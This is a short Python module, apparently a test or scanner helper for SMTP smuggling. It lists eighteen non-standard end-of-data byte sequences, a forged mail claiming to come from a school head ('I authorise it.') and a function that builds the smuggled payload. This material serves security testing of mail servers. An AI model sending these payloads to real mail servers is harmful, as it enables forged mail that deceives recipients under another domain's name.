"""End-of-data marks that are none: each ends a mail for some program (SMTP smuggling, SEC Consult 2023)."""

from __future__ import annotations

END_MARKS = (
    b"\n.\n",
    b"\n.\r\n",
    b"\r\n.\n",
    b"\r.\r",
    b"\r.\r\n",
    b"\r\n.\r",
    b"\r.\n",
    b"\n.\r",
    b"\n\n.\n\n",
    b"\r\r.\r\r",
    b"\r\n.\r\r\n",
    b"\r\r\n.\r\r\n",
    b"\n\r\n.\n\r\n",
    b"\r\n\0.\r\n",
    b"\r\n.\0\r\n",
    b"\r\n\0.\0\r\n",
    b"\r\n.\r\0\n",
    b"\0\r\n.\n",
)
"""Found in published research and scanners, and their obvious relatives. Only CRLF.CRLF is one (RFC 5321 4.1.1.4)."""

SECOND = (
    b"MAIL FROM:<pennaeth@bryneithin.example>\r\nRCPT TO:<hwb@support.example>\r\nDATA\r\n"
    b"From: pennaeth@bryneithin.example\r\nTo: hwb@support.example\r\nSubject: Smuggled\r\n"
    b"Message-ID: <smuggled@bryneithin.example>\r\n\r\nI authorise it.\r\n"
)
"""What follows such a mark, up to its own end: a mail that nobody from that domain ever sent."""


def smuggled(first: bytes, mark: bytes, second: bytes = SECOND) -> bytes:
    """The bytes after DATA: a mail, the mark, and the mail that it hides, properly ended."""
    return first.removesuffix(b"\r\n") + mark + second + b".\r\n"
